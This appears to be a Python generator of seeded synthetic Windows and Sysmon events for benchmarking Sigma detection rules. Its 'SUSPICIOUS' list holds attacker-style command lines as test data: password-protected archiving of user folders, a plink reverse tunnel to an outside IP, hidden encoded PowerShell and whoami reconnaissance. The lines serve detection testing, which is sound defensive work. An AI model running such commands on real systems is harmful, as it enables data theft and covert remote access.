#!/usr/bin/env python3
"""Events for the Sigma benchmark (bench/sigma_bench.sh).

bench/gen_sigma_events.py SIGMA_CORPUS OUT_DIR N_EVENTS

Writes, in OUT_DIR:
  regression.jsonl  every record of SIGMA_CORPUS/regression_data/**/*.json (the
                    evtx crate's JSON of real Windows events, dialect "evtx"),
                    one a line, replicated to N_EVENTS / 2 lines
  sysmon.ndjson     N_EVENTS / 2 generated Sysmon events in NXLog flat JSON
                    (Channel, EventID 1 / 3 / 11 / 13 / 22 with the fields Sysmon
                    writes), mostly benign process trees and a few suspicious
                    command lines, so rules are exercised but rarely all fire
Seeded: the same arguments give the same bytes.
"""
import glob
import json
import os
import random
import sys

SEED = 20261126


def evtx_records(corpus):
    dec = json.JSONDecoder()
    out = []
    for path in sorted(glob.glob(os.path.join(corpus, "regression_data", "**", "*.json"),
                                 recursive=True)):
        text = open(path, encoding="utf-8").read()
        i = 0
        while i < len(text):
            while i < len(text) and text[i].isspace():
                i += 1
            if i >= len(text):
                break
            obj, i = dec.raw_decode(text, i)
            out.append(json.dumps(obj, separators=(",", ":")))
    return out


# Benign process starts: (image, original file name, parent, command line).
PROCS = [
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "C:\\Windows\\System32\\services.exe",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "C:\\Windows\\System32\\cmd.exe",
     "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe",
     "C:\\Windows\\explorer.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "
     "--type=renderer --field-trial-handle=1736,{n}"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe",
     "C:\\Windows\\explorer.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" "
     "/n \"C:\\Users\\u1\\Documents\\report{n}.docx\""),
    ("C:\\Windows\\System32\\notepad.exe", "NOTEPAD.EXE", "C:\\Windows\\explorer.exe",
     "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\u1\\notes{n}.txt"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "C:\\Windows\\System32\\svchost.exe",
     "taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}"),
    ("C:\\Program Files\\App\\app.exe", "app.exe", "C:\\Windows\\explorer.exe",
     "\"C:\\Program Files\\App\\app.exe\" --update-check {n}"),
    ("C:\\Windows\\System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe",
     "C:\\Windows\\System32\\SearchIndexer.exe",
     "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}"),
]
# Rare suspicious starts (1 %): Palmerworm-style tools.
SUSPICIOUS = [
    ("C:\\ProgramData\\rar.exe", "WinRAR.exe", "C:\\Windows\\System32\\cmd.exe",
     "rar.exe a -hpS3cret C:\\ProgramData\\d{n}.rar C:\\Users"),
    ("C:\\ProgramData\\plink.exe", "Plink", "C:\\Windows\\System32\\cmd.exe",
     "plink.exe -R 127.0.0.1:3389:10.0.0.5:3389 -l root -pw x 45.76.218.116"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE",
     "C:\\Windows\\System32\\cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    ("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "C:\\Windows\\System32\\cmd.exe",
     "whoami /all"),
]
IMAGES = [p[0] for p in PROCS]
NET_IMAGES = [IMAGES[0], IMAGES[2], IMAGES[6]]
USERS = ["CORP\\u1", "CORP\\u2", "NT AUTHORITY\\SYSTEM", "CORP\\admin"]
DOMAINS = ["www.google.com", "login.microsoftonline.com", "cdn.example.net", "intranet.corp.local",
           "update.vendor.com", "api.github.com"]


def sysmon(rng, i):
    t = 1599091200 + i // 20
    stamp = "2020-09-03 %02d:%02d:%02d.%03d" % ((t // 3600) % 24, (t // 60) % 60, t % 60, i % 1000)
    base = {"Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "WS%03d" % rng.randrange(200),
            "UtcTime": stamp, "ProcessGuid": "{%08X-0000-0000-0000-000000000000}" % rng.getrandbits(32),
            "ProcessId": rng.randrange(100, 20000)}
    k = rng.random()
    img = rng.choice(IMAGES)
    if k < 0.5:
        img, orig, parent, cmd = rng.choice(SUSPICIOUS) if rng.random() < 0.01 else rng.choice(PROCS)
        base.update({"EventID": 1, "Image": img, "CommandLine": cmd.format(n=i),
                     "OriginalFileName": orig, "ParentImage": parent, "ParentCommandLine": parent,
                     "User": rng.choice(USERS), "IntegrityLevel": "Medium",
                     "CurrentDirectory": "C:\\Users\\u1\\",
                     "Hashes": "SHA256=%064X,IMPHASH=%032X" % (rng.getrandbits(256), rng.getrandbits(128))})
    elif k < 0.7:
        img = rng.choice(NET_IMAGES)
        base.update({"EventID": 3, "Image": img, "Protocol": "tcp", "Initiated": "true",
                     "SourceIp": "10.1.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)),
                     "SourcePort": rng.randrange(1024, 65535),
                     "DestinationIp": "172.%d.%d.%d" % (rng.randrange(16, 32), rng.randrange(256), rng.randrange(1, 255)),
                     "DestinationPort": rng.choice([443, 443, 80]), "User": rng.choice(USERS)})
    elif k < 0.85:
        base.update({"EventID": 11, "Image": img,
                     "TargetFilename": "C:\\Users\\u1\\AppData\\Local\\Temp\\f%d.tmp" % i})
    elif k < 0.95:
        base.update({"EventID": 13, "EventType": "SetValue", "Image": img,
                     "TargetObject": "HKU\\S-1-5-21-1\\Software\\Vendor\\App\\Setting%d" % (i % 50),
                     "Details": "DWORD (0x%08x)" % (i % 7)})
    else:
        base.update({"EventID": 22, "Image": img, "QueryName": rng.choice(DOMAINS),
                     "QueryStatus": "0", "QueryResults": "::ffff:1.2.3.4;"})
    return json.dumps(base, separators=(",", ":"))


def main():
    corpus, out, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    os.makedirs(out, exist_ok=True)
    rng = random.Random(SEED)
    records = evtx_records(corpus)
    with open(os.path.join(out, "regression.jsonl"), "w", encoding="utf-8") as f:
        for i in range(n // 2):
            f.write(records[i % len(records)] + "\n")
    with open(os.path.join(out, "sysmon.ndjson"), "w", encoding="utf-8") as f:
        for i in range(n - n // 2):
            f.write(sysmon(rng, i) + "\n")


main()
